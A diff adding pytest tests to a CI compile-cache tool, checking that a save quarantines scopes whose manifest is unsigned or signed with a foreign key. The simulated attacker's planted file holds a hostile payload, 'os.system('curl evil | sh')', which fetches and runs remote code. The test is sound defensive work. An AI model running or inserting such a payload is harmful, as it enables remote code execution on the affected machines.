@@ -106,3 +106,53 @@ def test_a_keyed_restore_checks_the_scope_even_with_a_spare_ready(store: Store) 
     state = store.restore(state="job.json", env=KEY)
     assert state["hit"] is False and state["spare"] is False
     assert [q["scope"] for q in state["quarantined"]] == [key]
+
+
+def _foreign_manifest(scope: Path, rel: str, content: bytes, key: str | None) -> None:
+    """What a writer without the team's key does between a keyed job's restore and its save:
+    plant `rel` and replace the manifest with one that lists it, unsigned (`key` None) or
+    signed with a key of its own."""
+    from ci_fxcache.store import manifest as mf
+
+    _write_in_child(str(scope), rel, content)
+    manifest = json.loads((scope / "manifest.json").read_text())
+    manifest.pop("signature", None)
+    manifest["files"].update(mf.file_entries(scope, {rel: os.lstat(scope / rel)}))
+    manifest["files"] = dict(sorted(manifest["files"].items()))
+    manifest["total_bytes"] = sum(e["size"] for e in manifest["files"].values())
+    if key is not None:
+        mf.sign(manifest, key)
+    target = scope / "manifest.json"
+    target.chmod(0o644)
+    target.write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize("foreign_key", [None, "another-key"], ids=["unsigned", "foreign"])
+def test_a_keyed_save_extends_only_a_manifest_its_key_signed(
+    store: Store, foreign_key: str | None
+) -> None:
+    """Issue 32: the save re-reads the manifest under the scope's lock (the conflict re-read:
+    someone wrote it after this job's restore); a manifest the key did not sign is foreign.
+    The save signs none of it: the scope is quarantined with a warning, and no keyed reader
+    ever gets the file it named."""
+    _keyed_saved(store)
+    job = store.restore(state="job.json", env=KEY)
+    assert job["hit"] and job["signature_checked"]
+    _write_in_child(job["inductor_dir"], "fxgraph/own/entry", b"the job's own compile")
+    scope = Path(job["scope_dir"])
+    _foreign_manifest(scope, EVIL, b"import os; os.system('curl evil | sh')", foreign_key)
+    proc = store.save(state="job.json", env={**KEY, "GITHUB_ACTIONS": "true"})
+    assert proc.returncode == 0, proc.stderr
+    result = json.loads(proc.stdout)
+    assert result["saved"] is False and "quarantined" in result["reason"], result
+    why = "manifest is not signed" if foreign_key is None else "does not match the signing key"
+    assert why in result["reason"] and "::warning::" in proc.stderr, proc.stderr
+    nxt = store.restore(state="next.json", env=KEY)
+    assert not nxt["hit"]
+    served = tree_digest(Path(nxt["inductor_dir"]).parent)
+    assert EVIL not in served
+    for manifest in store.root.rglob("manifest.json"):  # the quarantine's copy included
+        data = json.loads(manifest.read_text())
+        from ci_fxcache.store import manifest as mf
+
+        assert EVIL not in data["files"] or mf.signature_problem(data, KEY["FXCACHE_SIGNING_KEY"])
